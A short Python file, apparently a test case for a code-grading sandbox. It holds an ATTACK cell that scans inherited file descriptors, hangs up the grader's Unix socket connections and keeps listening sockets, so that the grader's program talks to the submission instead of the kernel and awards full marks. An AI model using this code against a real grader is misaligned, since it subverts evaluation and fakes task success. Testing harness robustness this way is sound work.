"""A cell hangs up on the grader, whose program calls again, and listens in the kernel's place."""

from battery import after

ATTACK = """
import os
import socket
import time

listening = []
for number in range(3, 100):
    try:
        found = socket.socket(fileno=os.dup(number))
        if found.family != socket.AF_UNIX:
            continue
        if found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            listening.append(found)
        else:
            found.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
print("listening to", len(listening))
time.sleep(3)
"""


def submit(solution, release):
    return after(solution, "check_sgd_step", ATTACK)


EARNS = "all"
SANDBOX = True
